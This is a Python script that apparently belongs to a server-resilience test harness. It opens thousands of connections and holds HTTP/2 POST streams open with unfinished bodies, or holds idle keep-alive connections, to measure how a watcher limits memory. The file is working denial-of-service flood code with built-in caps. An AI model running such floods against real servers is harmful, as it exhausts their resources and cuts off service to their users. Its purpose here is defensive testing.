#!/usr/bin/python3
"""memflood.py h2|idle HOST PORT SRC CONNS [STREAMS] SECS - connection floods
that make a watcher hold state (mem_budget.sh), from source address SRC.

  h2:   CONNS HTTP/2 connections (prior knowledge); on each, after the
        server's SETTINGS, STREAMS POST streams (content-length 100000, one
        DATA frame of 3 bytes, never END_STREAM) left open.
  idle: CONNS HTTP/1.1 keep-alive connections, one GET /index.html each,
        answered, then left idle.
Then holds every connection SECS seconds and prints one JSON line: the
connections opened, streams or answers, and how many the server cut.
Prints "holding" on stderr once everything is sent.
Bounded: CONNS <= 5000, STREAMS <= 250, SECS <= 120, 10 s socket timeouts."""
import json
import socket
import sys
import time

# raw HTTP/2 frames and HPACK literals, as the attacker tests build them
from h2attack import PREFACE, frame, post_block


def connect(src, host, port):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.settimeout(10)
    s.bind((src, 0))
    s.connect((host, port))
    return s


def read_until(s, want, limit=65536):
    buf = b""
    while want not in buf and len(buf) < limit:
        d = s.recv(65536)
        if not d:
            raise OSError("eof")
        buf += d
    return buf


def main():
    mode, host, port, src = sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[4]
    conns = min(int(sys.argv[5]), 5000)
    streams = min(int(sys.argv[6]), 250) if mode == "h2" else 0
    secs = min(float(sys.argv[-1]), 120.0)
    socks, done = [], 0
    for i in range(conns):
        s = connect(src, host, port)
        socks.append(s)
        if mode == "h2":
            s.sendall(PREFACE + frame(0x4, 0, 0))
            s.recv(65536)  # the server's SETTINGS: its stream limit first
            out = []
            for k in range(streams):
                sid = 1 + 2 * k
                out.append(frame(0x1, 0x4, sid, post_block(host.encode(), b"/up/c%ds%d" % (i, k))))
                out.append(frame(0x0, 0, sid, b"a=1"))
            s.sendall(b"".join(out))
            done += streams
        else:
            s.sendall(b"GET /index.html HTTP/1.1\r\nHost: t\r\n\r\n")
            if b" 200 " in read_until(s, b"\r\n\r\n"):
                done += 1
    print("holding", file=sys.stderr, flush=True)
    end = time.monotonic() + secs
    while time.monotonic() < end:
        time.sleep(0.2)
    cut = 0
    for s in socks:
        s.setblocking(False)
        try:
            while True:
                d = s.recv(65536)
                if not d:
                    cut += 1
                    break
        except BlockingIOError:
            pass
        except OSError:
            cut += 1
        s.close()
    print(json.dumps({"mode": mode, "conns": len(socks), "done": done, "cut": cut}), flush=True)


if __name__ == "__main__":
    main()
